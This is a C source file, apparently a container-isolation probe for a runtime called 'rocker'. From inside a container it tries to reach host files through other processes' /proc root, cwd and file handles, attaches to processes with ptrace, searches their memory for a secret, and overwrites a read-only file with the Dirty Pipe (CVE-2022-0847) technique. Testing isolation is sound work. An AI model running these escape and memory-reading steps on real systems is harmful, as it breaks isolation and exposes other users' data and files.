// Tries, in a container, to reach what is outside it by way of other processes and shared pages.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

// Whether the file that the host has at `path` can be reached from an open directory.
static int leads_out(int directory, const char *path)
{
	char up[512];
	snprintf(up, sizeof up, "../../../../../../../../../../../..%s", path);
	return !faccessat(directory, path + 1, F_OK, 0) || !faccessat(directory, up, F_OK, 0);
}

// What was reached by looking at other processes.
struct reached {
	long out; // of the host's files
	long held; // processes of rocker's
	long rich; // of those, with rights that this one does not have
	long read; // of those, with the secret in memory
};

// A line of a process's status, as a number of the base; -1 where there is none.
static long long status(long pid, const char *name, int base)
{
	char path[64], text[4096], *found = 0;
	snprintf(path, sizeof path, "/proc/%ld/status", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t got = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (fd >= 0)
		close(fd);
	if (got > 0)
		text[got] = 0, found = strstr(text, name);
	return found ? strtoll(found + strlen(name) + 1, 0, base) : -1;
}

static int is_rich(long pid)
{
	long long own = status(getpid(), "CapPrm", 16), rights = status(pid, "CapPrm", 16);
	return rights >= 0 && ((rights & ~own) || status(pid, "Seccomp", 10) == 0);
}

// Whether the stack of a process, where its variables lie, holds the secret, which is given backwards.
static int has_secret(long pid, int memory, const char *backwards)
{
	char path[64], line[512], secret[64], *stack;
	unsigned long start, end, length = strlen(backwards);
	int found = 0;
	for (unsigned long i = 0; i < length; i++)
		secret[i] = backwards[length - 1 - i];
	snprintf(path, sizeof path, "/proc/%ld/maps", pid);
	FILE *maps = fopen(path, "re");
	while (maps && fgets(line, sizeof line, maps)) {
		if (!strstr(line, "[stack]") && !strstr(line, "rw-p"))
			continue;
		if (sscanf(line, "%lx-%lx", &start, &end) != 2 || end - start > 1 << 20)
			continue;
		if ((stack = malloc(end - start)) && pread(memory, stack, end - start, start) > 0)
			found |= !!memmem(stack, end - start, secret, length);
		free(stack);
	}
	if (maps)
		fclose(maps);
	memset(secret, 0, sizeof secret);
	return found;
}

// Looks at everything that a process shows.
static void look(long pid, const char *canary, unsigned long inode, const char *secret, struct reached *reached)
{
	char path[128];
	struct stat s;
	snprintf(path, sizeof path, "/proc/%ld/exe", pid);
	// A process of rocker's, before it becomes the program.
	int ours = !stat(path, &s) && s.st_ino == inode;
	// Held first: then it does not go on while it is looked at.
	int seized = !ptrace(PTRACE_SEIZE, pid, 0, 0);
	if (seized) {
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, 0, __WALL);
		if (ours && !stat(path, &s) && s.st_ino == inode) {
			reached->held++;
			reached->rich += is_rich(pid);
		}
	}
	static const char *const trees[] = { "root", "cwd" };
	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/proc/%ld/%s", pid, trees[i]);
		int tree = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (tree < 0)
			continue;
		reached->out += leads_out(tree, canary);
		close(tree);
	}
	snprintf(path, sizeof path, "/proc/%ld/fd", pid);
	DIR *files = opendir(path);
	for (struct dirent *one; files && (one = readdir(files));) {
		if (one->d_name[0] == '.')
			continue;
		int fd = openat(dirfd(files), one->d_name, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (!fstat(fd, &s) && S_ISDIR(s.st_mode))
			reached->out += leads_out(fd, canary);
		close(fd);
	}
	if (files)
		closedir(files);
	snprintf(path, sizeof path, "/proc/%ld/mem", pid);
	int memory = open(path, O_RDWR | O_CLOEXEC);
	if (memory >= 0) {
		snprintf(path, sizeof path, "/proc/%ld/exe", pid);
		if (ours && !stat(path, &s) && s.st_ino == inode) {
			reached->held++;
			reached->read += has_secret(pid, memory, secret);
		}
		close(memory);
	}
	// Its own parent hears of its end only when it is let go of.
	if (seized)
		ptrace(PTRACE_DETACH, pid, 0, 0);
}

// Tries to change the pages of a file that cannot be written, without opening it for writing.
static int change(const char *file)
{
	int fd = open(file, O_RDONLY), ends[2];
	char page[4096] = { 0 };
	struct iovec part = { page, sizeof page };
	if (fd < 0 || pipe(ends))
		return perror(file), 1;
	int size = fcntl(ends[1], F_GETPIPE_SZ);
	// CVE-2022-0847: every slot of the pipe was written to before, so that it may be merged with.
	for (int left = size; left > 0; left -= sizeof page)
		if (write(ends[1], page, sizeof page) != sizeof page)
			return 1;
	for (int left = size; left > 0; left -= sizeof page)
		if (read(ends[0], page, sizeof page) != sizeof page)
			return 1;
	memset(page, 'x', sizeof page);
	loff_t offset = 0;
	if (splice(fd, &offset, ends[1], 0, 1, 0) != 1 || write(ends[1], page, 16) != 16)
		return perror("splice"), 1;
	offset = 4096;
	if (splice(fd, &offset, ends[1], 0, 1, 0) != 1 || vmsplice(ends[1], &part, 1, SPLICE_F_GIFT) < 0)
		return perror("vmsplice"), 1;
	// And by memory that shows it.
	if (mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED)
		printf("mapped for writing\n");
	char *shown = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
	int memory = open("/proc/self/mem", O_RDWR);
	if (shown != MAP_FAILED && pwrite(memory, page, 16, (off_t)shown) == 16)
		printf("written by /proc/self/mem: %s\n", shown[0] == 'x' ? "changed" : "as it was");
	char *own = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	if (own != MAP_FAILED)
		memset(own, 'x', 16);
	printf("tried\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc > 2 && !strcmp(argv[1], "change"))
		return change(argv[2]);
	if (argc > 4 && !strcmp(argv[1], "watch")) { // CANARY INODE SECRET: until a file /end appears
		unsigned long inode = strtoul(argv[3], 0, 10);
		struct reached reached = { 0 };
		long looked = 0;
		close(open("/ready", O_CREAT | O_RDWR, 0600));
		while (access("/end", F_OK)) {
			DIR *all = opendir("/proc");
			for (struct dirent *one; all && (one = readdir(all));) {
				long pid = strtol(one->d_name, 0, 10);
				if (pid > 1) {
					looked++;
					look(pid, argv[2], inode, argv[4], &reached);
				}
			}
			if (all)
				closedir(all);
		}
		printf("looked %d out %ld held %ld rich %ld read %ld\n", looked > 0, reached.out, reached.held,
		       reached.rich, reached.read);
		return 0;
	}
	return fprintf(stderr, "poke: what?\n"), 2;
}
